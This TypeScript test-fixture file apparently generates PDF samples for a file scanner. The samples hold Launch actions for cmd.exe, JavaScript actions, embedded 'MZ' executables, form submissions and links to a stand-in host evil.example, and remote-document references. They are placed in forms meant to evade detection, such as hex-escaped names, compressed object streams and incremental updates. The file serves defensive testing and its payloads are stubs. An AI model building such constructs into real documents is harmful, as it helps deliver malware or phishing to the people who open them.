import type { FileFinding } from '../../../../src/formats/file-finding.ts';
import { flate, makePdf, type Parts, stream } from './make-pdf.ts';
import { compressed, updated } from './rewritten.ts';

const launch = '<< /S /Launch /F (cmd.exe) >>';
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const program = stream('/Type /EmbeddedFile', Buffer.from('MZ'));
const annotation = (entries: string) => ({
  page: `/Annots [5 0 R]`,
  objects: [`<< /Type /Annot /Rect [0 0 9 9] ${entries} >>`],
});
const link = (action: string) => annotation(`/Subtype /Link /A ${action}`);

/** Parts that are active, contain files or lead out of the document, each as some program writes it, with what is found. */
const CONSTRUCTS: readonly (readonly [what: string, finding: FileFinding, parts: Parts])[] = [
  ['a program to start', 'program', { catalog: `/OpenAction ${launch}` }],
  ['a program behind a link', 'program', link(launch)],
  [
    'a program under a name that stands elsewhere',
    'program',
    { catalog: '/OpenAction << /S 5 0 R /F (cmd.exe) >>', objects: ['/Launch'] },
  ],
  ['a script at its opening', 'program', { catalog: `/OpenAction ${script}` }],
  [
    'a script among its names',
    'program',
    { catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>', objects: [script] },
  ],
  ['a script of a page', 'program', { page: `/AA << /O ${script} >>` }],
  [
    'a script of a field',
    'program',
    { catalog: '/AcroForm << /Fields [5 0 R] >>', objects: [`<< /FT /Tx /T (a) /AA << /C ${script} >> >>`] },
  ],
  [
    'a script after a harmless step',
    'program',
    link(`<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /NextPage /Next ${script} >>] >>`),
  ],
  ['a form to send', 'action', link('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>')],
  ['data to take in', 'action', link('<< /S /ImportData /F (c:/a.fdf) >>')],
  ['another document to open', 'action', link('<< /S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit] >>')],
  ['a document within to open', 'action', link('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>')],
  ['a film', 'content', annotation('/Subtype /Movie /Movie << /F (a.avi) >>')],
  ['a sound', 'content', link('<< /S /Sound /Sound 6 0 R >>')],
  ['a rendition', 'content', annotation('/Subtype /Screen /A << /S /Rendition /OP 0 >>')],
  ['rich media', 'content', annotation('/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>')],
  ['a model in space', 'content', annotation('/Subtype /3D /3DD 6 0 R')],
  [
    'a file without the names that may be left out',
    'content',
    {
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
      objects: ['<< /F (a.exe) /EF << /F 6 0 R >> >>', stream('', Buffer.from('MZ'))],
    },
  ],
  [
    'a file at a place of a page',
    'content',
    annotation('/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 6 0 R >> >>'),
  ],
  [
    'a file that belongs to the document',
    'content',
    { catalog: '/AF [5 0 R]', objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>', program] },
  ],
  ['a collection of files', 'content', { catalog: '/Collection << /View /D >>' }],
  [
    'a form of another kind',
    'program',
    { catalog: '/AcroForm << /XFA [(template) 5 0 R] /Fields [] >>', objects: [stream('', Buffer.from('<xdp/>'))] },
  ],
  [
    'contents of another file',
    'outside',
    { page: '/Contents 5 0 R', objects: [stream('/F (//evil.example/a)', Buffer.alloc(0))] },
  ],
  [
    'a picture of another document',
    'outside',
    {
      page: '/Resources << /XObject << /X 5 0 R >> >>',
      objects: [
        stream(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil.example/a.pdf) /Page 0 >>',
          Buffer.alloc(0),
        ),
      ],
    },
  ],
  [
    'a picture that is a program',
    'program',
    {
      page: '/Resources << /XObject << /X 5 0 R >> >>',
      objects: [stream('/Type /XObject /Subtype /PS', Buffer.from('quit'))],
    },
  ],
  ['a page of the web at its opening', 'action', { catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }],
  [
    'a page of the web for a page that is opened',
    'action',
    { page: '/AA << /O 5 0 R >>', objects: ['<< /S /URI /URI (https://evil.example) >>'] },
  ],
  ['a link to a file', 'action', link('<< /S /URI /URI (file:///c:/windows/cmd.exe) >>')],
  ['a link that is a script', 'action', link('<< /S /URI /URI (JavaScript:alert\\(1\\)) >>')],
  [
    'objects in a stream that does not say so',
    'mixed',
    { objects: [stream('/N 1 /First 5 /Filter /FlateDecode', flate(`20 0 ${launch}`))] },
  ],
];

/** Places in the file where such a part can be. */
export const PLACES: readonly (readonly [string, (parts: Parts) => Uint8Array | Promise<Uint8Array>])[] = [
  ['plainly', makePdf],
  ['in names that are written by codes', (parts) => makePdf(escaped(parts))],
  ['in compressed object streams', (parts) => compressed(makePdf(parts))],
  ['in an update of the file', (parts) => updated(makePdf(), parts)],
  ['in what an update replaces', (parts) => updated(makePdf(parts), {})],
  [
    'where nothing refers to it',
    ({ catalog = '', page = '', objects = [] }) =>
      makePdf({ objects: [...objects, `<< ${catalog} >>`, `<< ${page} >>`] }),
  ],
];

/** Every construct in every place. */
export const HOSTILE = CONSTRUCTS.flatMap(([what, finding, parts]) =>
  PLACES.map(([where, make]) => [what, where, finding, async () => make(parts)] as const),
);

/** Writes every name by the codes of its letters; the bytes of streams are unchanged. */
function escaped({ catalog = '', page = '', objects = [] }: Parts): Parts {
  const coded = (text: string) =>
    text.replace(/\/([A-Za-z]{2,})/g, (_, name: string) => `/${name.replace(/[A-Za-z]/g, codeOf)}`);
  return {
    catalog: coded(catalog),
    page: coded(page),
    objects: objects.map((object) => {
      const [head = '', ...rest] = Buffer.from(object).toString('latin1').split('\nstream\n');
      return Buffer.from([coded(head), ...rest].join('\nstream\n'), 'latin1');
    }),
  };
}

function codeOf(letter: string): string {
  return `#${letter.charCodeAt(0).toString(16)}`;
}
